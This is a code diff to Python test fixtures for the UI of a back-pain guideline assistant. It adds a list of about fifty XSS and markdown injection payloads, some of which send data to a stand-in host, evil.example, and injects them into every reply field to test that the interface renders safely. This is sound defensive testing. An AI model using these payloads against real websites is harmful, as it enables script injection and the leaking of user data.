@@ -1,4 +1,9 @@
-"""Replies as the pipeline gives them, for tests of the UI, and a small assistant that streams them. Passages are Lumbar's own wording."""
+"""Replies as the pipeline gives them, for tests of the UI, and a small assistant that streams them.
+
+Passages are in Lumbar's own wording.
+"""
+
+# ruff: noqa: E501 - rows of prose read better on one line
 
 from __future__ import annotations
 
@@ -150,17 +155,32 @@ def cited(sections: list[tuple[str, list[tuple[str, list[str]]]]]) -> tuple[tupl
             cites = []
             for pid in ids:
                 n = numbers.setdefault(pid, len(numbers) + 1)
-                cites.append(Citation(n=n, passage_id=pid, quote=quote if quote in texts[pid] else texts[pid].split(". ")[0].rstrip(".")))
+                cites.append(
+                    Citation(
+                        n=n,
+                        passage_id=pid,
+                        quote=quote if quote in texts[pid] else texts[pid].split(". ")[0].rstrip("."),
+                    )
+                )
             made.append(Claim(text=text, citations=tuple(cites)))
         out.append(Section(title=title, claims=tuple(made)))
     return tuple(out), tuple(source(n, pid) for pid, n in numbers.items())
 
 
-def markdown(sections: tuple[Section, ...], before: tuple[str, ...] = (), after: tuple[str, ...] = ()) -> str:
-    lines = list(before)
-    for section in sections:
-        lines += ["", f"## {section.title}", *(c.text + " " + "".join(f"[{x.n}]" for x in c.citations) for c in section.claims)]
-    return "\n".join([*lines, "", *after]).strip()
+def markdown(sections: tuple[Section, ...], opening: tuple[str, ...] = (), closing: tuple[str, ...] = ()) -> str:
+    """As `assistant/markdown.py` writes it: an urgent block as lines, a bottom line as paragraphs, other claims as a list."""
+    blocks = []
+    for at, section in enumerate(sections):
+        lines = [c.text + " " + "".join(f"[{x.n}]" for x in c.citations) for c in section.claims]
+        if section.title.startswith("Now"):
+            blocks.append("\n".join([f"## {section.title}", "", *lines]))
+        elif section.title == "Bottom line":
+            blocks.append("\n\n".join([f"## {section.title}", *lines]))
+        else:
+            blocks.append("\n".join([f"## {section.title}", "", *(f"- {line}" for line in lines)]))
+        if at == 0:
+            blocks += opening
+    return "\n\n".join([*blocks, *closing])
 
 
 def finding(rule: str = "RF01", **changes: Any) -> Finding:
@@ -187,10 +207,22 @@ def answered(question: str = CASE, **changes: Any) -> Reply:
     findings = [] if at < 0 else [denied("neurologic_deficit", "no leg weakness", at)]
     findings.append(
         finding(
-            "PF03", category="muscle_relaxant_duration", kind="pitfall", stage="plan", assertion=None, tier=None, severity="warning",
-            action="State a stop date.", message="A muscle relaxant is in the answer: a short course only.", source="acp2017-10",
-            where=Where(field="answer"), quote="muscle relaxant", start=3, end=18, state=None,
-        )  # fmt: skip
+            "PF03",
+            category="muscle_relaxant_duration",
+            kind="pitfall",
+            stage="plan",
+            assertion=None,
+            tier=None,
+            severity="warning",
+            action="State a stop date.",
+            message="A muscle relaxant is in the answer: a short course only.",
+            source="acp2017-10",
+            where=Where(field="answer"),
+            quote="muscle relaxant",
+            start=3,
+            end=18,
+            state=None,
+        )
     )
     values: dict[str, Any] = {
         "outcome": "answered", "question": question, "standalone_question": "How should 10 days of low back pain with left buttock tingling be managed in a 54-year-old?",
@@ -203,7 +235,8 @@ def answered(question: str = CASE, **changes: Any) -> Reply:
             CaseFact(key="age", value=54, quote="54-year-old", turn=0, start=0, end=11),
             CaseFact(key="duration_weeks", value=1.4, quote="10 days", turn=0, start=17, end=24),
         ),
-        "imaging": {"verdict": "No imaging now only if the flags not documented are absent"},
+        "imaging": {"verdict": "not_now_if", "modality": None, "region": None, "because": [], "if_absent": ["cauda_equina", "fracture"],
+                    "reconsider": "after six weeks of care, only if surgery or injection is an option", "passage_ids": ["ng59-1.1.4"]},
         "conflicts": (
             {"id": "opioids", "topics": ["opioid"], "question": "Opioids in chronic low back pain?", "reading": "They differ.", "changed": None,
              "rows": [{"guideline_id": "vadod2022", "label": "VA/DoD 2022", "year": 2022, "stance": "Advises against opioids.", "strength": None,
@@ -219,21 +252,33 @@ def answered(question: str = CASE, **changes: Any) -> Reply:
     return Reply(**{**values, **changes})
 
 
-URGENT = [("Red flag", [
-    ("Now: emergency department / your local emergency number. Emergency MRI of the lumbosacral spine. Words: “numb between the legs”.", ["GL-008"]),
-    ("Do not wait for a trial of treatment, an X-ray or an outpatient MRI.", ["GL-008"]),
-    ("Record onset, saddle sensation, power, residual volume and anticoagulant.", ["GL-008"]),
-])]  # fmt: skip
+URGENT = [
+    (
+        "Now",
+        [
+            (
+                "Now: emergency department / your local emergency number. Emergency MRI of the lumbosacral spine. Words: “numb between the legs”.",
+                ["GL-008"],
+            ),
+            ("Do not wait for a trial of treatment, an X-ray or an outpatient MRI.", ["GL-008"]),
+            ("Record onset, saddle sensation, power, residual volume and anticoagulant.", ["GL-008"]),
+        ],
+    )
+]
 
 
-def escalated(question: str = "54-year-old, numb between the legs and cannot pass urine since this morning", *, again: bool = False, **changes: Any) -> Reply:
+def escalated(
+    question: str = "54-year-old, numb between the legs and cannot pass urine since this morning",
+    *,
+    again: bool = False,
+    **changes: Any,
+) -> Reply:
     """A reply with an active flag of tier now; `again` for a later turn, where the block is one line and an answer follows."""
-    urgent = [("Red flag", URGENT[0][1][:1])] if again else URGENT
+    urgent = [("Now", URGENT[0][1][:1])] if again else URGENT
     sections, sources = cited([*urgent, *(ANSWER[2:3] if again else [])])
-    head = [c.text + " " + "".join(f"[{x.n}]" for x in c.citations) for c in sections[0].claims]
     values: dict[str, Any] = {
         "outcome": "escalated", "question": question, "standalone_question": question,
-        "answer": markdown(sections[1:], tuple(head)), "sections": sections, "sources": sources,
+        "answer": markdown(sections), "sections": sections, "sources": sources,
         "findings": (finding(quote="numb between the legs"), finding("RF01", concept="retention", quote="cannot pass urine")),
         "red_flags": {"present": ["cauda_equina"], "absent": [], "not_documented": CATEGORIES[1:]},
         "suggested_questions": () if not again else ("Which imaging, and of which region?",), "receipt": receipt(),
@@ -263,6 +308,66 @@ def no_evidence() -> Reply:
 def unavailable() -> Reply:
     return _plain("unavailable", "What about exercise?", "Something broke, so no answer is given: the index is missing. This is not a statement that the "
                   "guidelines are silent.\nWhat to do: run `lumbar index build`.", notices=("Red flags were NOT checked.",))  # fmt: skip
+
+
+_BASES = (
+    "<script>{x}</script>", "<img src=x onerror={x}>", "<svg onload={x}>", "<svg><script>{x}</script></svg>", "<iframe srcdoc='<script>{x}</script>'></iframe>",
+    "<iframe src=javascript:{x}></iframe>", "<a href=javascript:{x}>go</a>", "<a href=' java\tscript:{x}'>go</a>", "<body onload={x}>",
+    "<details open ontoggle={x}>", "<video><source onerror={x}></video>", "<audio src=x onerror={x}>", "<input autofocus onfocus={x}>",
+    "<textarea autofocus onfocus={x}></textarea>", "<select autofocus onfocus={x}></select>", "<marquee onstart={x}>", "<object data=javascript:{x}>",
+    "<embed src=javascript:{x}>", "<form action=javascript:{x}><button>go</button></form>", "<button formaction=javascript:{x}>go</button>",
+    "<math><mi xlink:href=javascript:{x}>m</mi></math>", "<style>@import 'https://evil.example/{y}';</style>", "<link rel=stylesheet href=https://evil.example/{y}>",
+    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example/{y}'>", "<img src=https://evil.example/?q={y}>",
+    "![x](https://evil.example/?q={y})", "[go](javascript:{x})", "[go](https://evil.example/?q={y})", "![x][r]\n[r]: https://evil.example/{y}",
+    "<div style='background:url(https://evil.example/{y})'>", "\"><script>{x}</script>", "'><img src=x onerror={x}>", "</textarea><script>{x}</script>",
+    "</mark></p><script>{x}</script>", "</pre><img src=x onerror={x}>", "<!--><script>{x}</script>-->", "<![CDATA[<script>{x}</script>]]>",
+    "<noscript><p title='</noscript><img src=x onerror={x}>'>", "<template><script>{x}</script></template>", "$$\\href{{javascript:{x}}}{{go}}$$",
+    "```html\n<script>{x}</script>\n```", "```mermaid\ngraph TD;A[<img src=x onerror={x}>]\n```", "<a href='data:text/html,<script>{x}</script>'>go</a>",
+    "&lt;script&gt;{x}&lt;/script&gt;", "{{{{constructor.constructor('{x}')()}}}}", "${{{x}}}", "\n\n<script>{x}</script>\n\n", "| a |\n|---|\n| <img src=x onerror={x}> |",
+    "[1]<img src=x onerror={x}>[999]", "**<b onmouseover={x}>bold</b>**",
+)  # fmt: skip
+
+
+def payloads() -> list[str]:
+    """Hostile strings: 50 shapes, each as it is and with its tags in capitals."""
+    made = []
+    for at, base in enumerate(_BASES):
+        plain = base.format(x=f"window.hit={at}", y=f"leak{at}")
+        made += [
+            plain,
+            plain.replace("script", "ScRiPt")
+            .replace("<img", "<IMG")
+            .replace("onerror", "OnErRoR")
+            .replace("<svg", "<SVG"),
+        ]
+    return made
+
+
+def hostile(texts: list[str]) -> Reply:
+    """A reply with each hostile text in every place that a text can reach."""
+    everything = "\n".join(texts)
+    cite = Citation(n=1, passage_id="p1", quote=everything)
+    claims = tuple(Claim(text=t, citations=(cite,)) for t in texts)
+    source_ = source(1, "ng59-1.1.4").model_copy(
+        update={
+            "passage_id": "p1", "text": f"before {everything} after", "title": everything, "issuer": everything, "label": everything, "edition": everything,
+            "section": everything, "strength": everything, "certainty": everything, "population": everything, "status": everything, "verified": everything,
+            "guideline": everything, "url": "javascript:window.hit=1",
+        }
+    )  # fmt: skip
+    fired = finding(
+        rule=everything, category=everything, action=everything, message=everything, source=everything, quote=everything
+    )
+    fact = CaseFact(key=everything, value=everything, quote=everything, turn=0, start=0, end=1)
+    table = "| " + " | ".join(t.replace("\n", " ") for t in texts[:3]) + " |\n|---|---|---|\n| a | b | c |"
+    return answered(
+        everything, standalone_question=everything, answer="\n\n".join([f"## {texts[0]}", *(f"- {t} [1]" for t in texts), *texts, table]),
+        sections=(Section(title=everything, claims=claims),), sources=(source_, source_.model_copy(update={"n": 2, "passage_id": "p2", "url": f"https://evil.example/{everything}"})),
+        findings=(fired,), case_facts=(fact,), suggested_questions=tuple(texts), notices=tuple(texts), red_flags=dict.fromkeys(("present", "absent", "not_documented"), texts),
+        conflicts=({"question": everything, "rows": [{"label": everything, "stance": everything, "strength": everything, "year": everything, "passage_ids": ["p1"]}]},),
+        imaging={"verdict": everything, "modality": everything, "region": everything, "because": texts, "if_absent": texts, "reconsider": everything, "passage_ids": ["p1"]},
+        dropped_claims=(DroppedClaim(text=everything, passage_ids=("p1",), reasons=tuple(texts)),), receipt=receipt(model=everything, version=everything, embedder=everything),
+    )  # fmt: skip
 
 
 @dataclass(frozen=True)
@@ -304,9 +409,13 @@ class FakeAssistant:
         flagged = [i for i, text in enumerate(users) if "numb between the legs" in text]
         settled = any("MRI normal" in text for text in users)
         if flagged and settled:
-            return answered(last, findings=(finding(state="acted_on", message="Spinal registrar reviewed, MRI normal at 14:00."),))
+            return answered(
+                last, findings=(finding(state="acted_on", message="Spinal registrar reviewed, MRI normal at 14:00."),)
+            )
         if flagged:
             return escalated(last, again=flagged[0] < len(users) - 1)
+        if "hostile" in last:
+            return hostile(payloads())
         if "shoulder" in last:
             return declined()
         if "bracelet" in last:
